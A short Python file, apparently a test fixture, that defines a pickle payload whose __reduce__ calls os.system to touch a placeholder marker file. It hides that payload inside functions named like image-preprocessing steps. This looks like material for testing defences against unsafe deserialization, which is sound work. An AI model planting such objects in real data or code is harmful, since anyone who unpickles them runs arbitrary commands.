# Whoever unpickles one of these runs a command of ours.
import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch @MARKER@",)


def flatten(images):
    return np.array([Payload(), Payload()], dtype=object)


def scale(images):
    return Payload()


def preprocess(images):
    return pickle.dumps(Payload())


def unflatten(vectors, height, width):
    return [Payload(), {"a": Payload()}, (pickle.dumps(Payload()),)]


for number, name in enumerate(("pixels_divided", "levels_left")):
    globals()[name] = (flatten(0), scale(0), preprocess(0))[number % 3]
